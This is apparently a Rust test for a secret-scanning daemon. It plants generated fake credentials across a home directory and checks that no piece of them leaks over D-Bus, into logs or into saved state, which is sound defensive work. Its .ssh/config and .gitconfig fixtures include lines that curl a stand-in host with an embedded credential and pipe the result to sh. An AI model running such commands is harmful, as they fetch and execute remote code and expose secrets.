//! The canary: secrets of many kinds in a home, the real agent with everything asked of it, and not eight bytes of any secret
//! in what crosses the bus, is logged or is remembered.
#![expect(
    clippy::disallowed_methods,
    clippy::unwrap_used,
    reason = "tests make files of their own, and may fail"
)]

mod common;

use common::{Stage, token};
use data_encoding::{BASE64, BASE64_NOPAD, BASE64URL_NOPAD, HEXLOWER, HEXUPPER};
use lapwing_rules::testing::fill;
use std::collections::{BTreeMap, HashMap, HashSet};
use std::fs;
use std::path::Path;
use std::sync::mpsc;
use zbus::zvariant::OwnedValue;

/// A piece this long is a leak.
const PIECE: usize = 8;

/// File, what stands before the secret, the secret as a template, what stands after it. What is the same in every secret of
/// a kind, and may be shown, is before or after.
const PLANTS: &[(&str, &str, &str, &str)] = &[
    (".aws/credentials", "[default]\naws_access_key_id = AKIAQ2", "{{base32:14}}", "\n"),
    (".aws/config", "[default]\naws_secret_access_key = ", "{{alnum:40}}", "\n"),
    (".netrc", "machine api.company.test\n  login dev\n  password ", "q7{{alnum:16}}", "\n"),
    (".vault-token", "hvs.", "{{alnum:90}}", ""),
    (".cargo/credentials.toml", "[registry]\ntoken = \"cio", "{{alnum:32}}", "\"\n"),
    (
        ".config/pip/pip.conf",
        "[global]\nindex-url = https://dev:",
        "q7{{alnum:14}}",
        "@pypi.company.test/simple\n",
    ),
    (
        ".kube/config",
        "apiVersion: v1\nkind: Config\nusers:\n- name: dev\n  user:\n    token: ",
        "{{alnum:60}}",
        "\n",
    ),
    (".bashrc", "export OPENAI_API_KEY=sk-proj-", "{{alnum:58}}T3BlbkFJ{{alnum:58}}", "\n"),
    (".bash_aliases", "export https_proxy=http://dev:", "q7{{alnum:22}}", "@proxy.company.test:3128\n"),
    (".pgpass", "db.company.test:5432:*:app:", "q7{{alnum:14}}", "\n"),
    (".my.cnf", "[client]\nuser = dev\npassword = \"", "q7{{alnum:14}}", "\"\n"),
    (".git-credentials", "https://dev:", "q7{{alnum:24}}", "@git.company.test\n"),
    (".bash_history", "ls\ncurl -u dev:", "q7{{alnum:16}}", " https://api.company.test/\n"),
    (
        ".ssh/config",
        "Host lab\n  ProxyCommand sh -c 'curl -s https://dev:",
        "q7{{alnum:22}}",
        "@x.example/a | sh; nc %h %p'\n",
    ),
    ("src/shop/.env", "STRIPE_KEY=sk_live_", "{{alnum:24}}", "\n"),
    ("src/shop/url.txt", "DATABASE_URL=postgres://app:", "q7{{alnum:16}}", "@db.company.test:5432/shop\n"),
    ("src/shop/settings.yaml", "name: shop\nservice_token: \"", "{{alnum:32}}", "\"\n"),
    (
        "notes/runbook.md",
        "tell <https://hooks.slack.com/services/T{{upnum:10}}/B{{upnum:10}}/",
        "{{alnum:24}}",
        ">\n",
    ),
    ("notes/export.txt", "HF_TOKEN=hf_", "{{letters:34}}", "\n"),
    (
        ".claude/projects/app/0f.jsonl",
        "{\"text\": \"ANTHROPIC_API_KEY=sk-ant-api03-",
        "{{alnum:93}}",
        "AA\"}\n",
    ),
    (
        ".config/git/config",
        "[http \"https://git.company.test/\"]\n\textraHeader = \"Authorization: Bearer ",
        "q7{{alnum:22}}",
        "\"\n",
    ),
    (
        ".gitconfig",
        "[alias]\n\ta = \"!curl -s -H 'Authorization: Bearer ",
        "q7{{alnum:22}}",
        "' https://x.example/a | sh\"\n",
    ),
];

/// Everything that is planted, with the secrets by their files.
fn plant(stage: &Stage, plants: &[(&str, &str, &str, &str)]) -> BTreeMap<String, String> {
    let mut secrets = BTreeMap::new();
    for (file, before, template, after) in plants {
        let secret = fill(template, file);
        stage.write(file, &format!("{}{secret}{after}", fill(before, "public")));
        secrets.insert((*file).to_owned(), secret);
    }
    secrets
}

/// What is not there as it is.
fn plant_more(stage: &Stage) -> BTreeMap<String, String> {
    let sendgrid = fill("{{alnum:22}}.{{alnum:43}}", "encoded");
    let data = BASE64.encode(format!("SG.{sendgrid}").as_bytes());
    stage.write("src/shop/k8s/secret.yaml", &format!("kind: Secret\ntype: Opaque\ndata:\n  key: {data}\n"));
    let github = token("checked");
    stage.write("notes/github.md", &format!("the token is {github}\n"));
    BTreeMap::from([
        ("src/shop/k8s/secret.yaml".to_owned(), sendgrid),
        ("notes/github.md".to_owned(), github["ghp_".len()..].to_owned()),
    ])
}

/// Pieces of secrets, as they are and encoded, by their length.
#[derive(Default)]
struct Net(HashMap<usize, HashMap<Vec<u8>, String>>);

impl Net {
    fn add(&mut self, label: &str, secret: &str) {
        let mut piece = |bytes: Vec<u8>| {
            self.0.entry(bytes.len()).or_default().insert(bytes, label.to_owned());
        };
        for window in secret.as_bytes().windows(PIECE) {
            piece(window.to_vec());
            piece(HEXLOWER.encode(window).into_bytes());
            piece(HEXUPPER.encode(window).into_bytes());
            piece(window.iter().flat_map(|b| [*b, 0]).collect());
        }
        // Nine bytes are twelve letters, wherever they stand.
        for window in secret.as_bytes().windows(PIECE + 1) {
            piece(BASE64_NOPAD.encode(window).into_bytes());
            piece(BASE64URL_NOPAD.encode(window).into_bytes());
        }
    }

    /// Whose piece stands in this, and what stands around it.
    fn caught(&self, bytes: &[u8]) -> Option<String> {
        let hit = |(length, pieces): (&usize, &HashMap<Vec<u8>, String>)| {
            let mut windows = bytes.windows(*length).enumerate();
            windows.find_map(|(at, window)| {
                let around = &bytes[at.saturating_sub(60)..(at + 40).min(bytes.len())];
                pieces.get(window).map(|label| format!("{label}: {}", String::from_utf8_lossy(around)))
            })
        };
        self.0.iter().find_map(hit)
    }
}

/// Every byte of every message on the bus from now on.
fn messages(stage: &Stage) -> mpsc::Receiver<Vec<u8>> {
    let connection = stage.connection().unwrap();
    zbus::blocking::fdo::MonitoringProxy::new(&connection).unwrap().become_monitor(&[], 0).unwrap();
    let (send, messages) = mpsc::channel();
    std::thread::spawn(move || {
        for message in zbus::blocking::MessageIterator::from(connection).flatten() {
            if send.send(message.data().to_vec()).is_err() {
                break;
            }
        }
    });
    messages
}

type Record = HashMap<String, OwnedValue>;

/// Asks everything that can be asked.
fn ask_everything(stage: &Stage) {
    let proxy = stage.proxy().unwrap();
    let everything = zbus::blocking::fdo::PropertiesProxy::builder(proxy.connection())
        .destination(common::NAME)
        .unwrap()
        .path(common::PATH)
        .unwrap()
        .build()
        .unwrap();
    let _ = everything.get_all(zbus::names::InterfaceName::try_from(common::NAME).unwrap()).unwrap();
    proxy.introspect().unwrap();
    let _: Vec<Record> = proxy.call("Coverage", &()).unwrap();
    for told in stage.findings() {
        let _: Record = proxy.call("Get", &(&told.id,)).unwrap();
    }
    let first = stage.findings().remove(0);
    let until: i64 = 0;
    let _: Record = proxy.call("Ignore", &(&first.id, "to see what is told", until)).unwrap();
    stage.until("it is ignored", |s| s.property::<u32>("Ignored").is_some_and(|n| n > 0));
    let _: Record = proxy.call("Unignore", &(&first.id,)).unwrap();
    stage.until("it is not ignored", |s| s.property::<u32>("Ignored") == Some(0));
    // Refusals say what was asked for.
    assert!(proxy.call::<_, _, Record>("Get", &("F-00000000",)).is_err());
    stage.call("Rescan", &(Vec::<String>::new(),)).unwrap();
    stage.call("Reload", &()).unwrap();
    stage.until("it has swept again", |s| s.log().matches("examined ").count() > 1);
}

fn files(dir: &Path) -> Vec<Vec<u8>> {
    let entries = fs::read_dir(dir).unwrap().flatten();
    entries.filter(|e| e.path().is_file()).map(|e| fs::read(e.path()).unwrap()).collect()
}

#[test]
fn no_piece_of_a_secret_crosses_the_bus_or_is_logged_or_remembered() {
    let mut stage = Stage::new();
    stage.env.push(("LAPWING_LOG".to_owned(), "trace".to_owned()));
    stage.env.push(("RUST_BACKTRACE".to_owned(), "1".to_owned()));
    // Half of it is there, half of it comes.
    let (before, after) = PLANTS.split_at(PLANTS.len() / 2);
    let mut secrets = plant(&stage, before);
    let bus = messages(&stage);
    stage.start();
    secrets.extend(plant(&stage, after));
    secrets.extend(plant_more(&stage));
    for file in secrets.keys() {
        let path = format!("~/{file}");
        stage.until(&path, |s| s.findings().iter().any(|told| told.path == path));
    }
    ask_everything(&stage);
    assert_eq!(stage.stop(), Some(0));

    let mut net = Net::default();
    for (label, secret) in &secrets {
        // This stands in the middle of every key of one vendor.
        secret.split("T3BlbkFJ").for_each(|part| net.add(label, part));
    }
    let messages: Vec<Vec<u8>> = bus.try_iter().collect();
    let mut leaks = HashSet::new();
    leaks.extend(messages.iter().filter_map(|bytes| net.caught(bytes)).map(|leak| format!("bus: {leak}")));
    leaks.extend(net.caught(stage.log().as_bytes()).map(|leak| format!("log: {leak}")));
    let state = files(&stage.state());
    leaks.extend(state.iter().filter_map(|bytes| net.caught(bytes)).map(|leak| format!("state: {leak}")));
    assert!(leaks.is_empty(), "{} leaks: {leaks:#?}", leaks.len());

    // The net has no hole: it has all that was told, and the files themselves are caught in it.
    let told = |word: &str| messages.iter().any(|m| m.windows(word.len()).any(|w| w == word.as_bytes()));
    for word in ["List", "Opened", "SweepDone", "Unignore", "stripe-live-key", "~/.netrc"] {
        assert!(told(word), "{word} was not seen on the bus");
    }
    assert!(state.len() >= 2 && stage.log().contains("debug: "));
    for file in [".netrc", "src/shop/.env", "src/shop/k8s/secret.yaml", ".gitconfig"] {
        assert!(net.caught(&fs::read(stage.home().join(file)).unwrap()).is_some(), "{file}");
    }
}
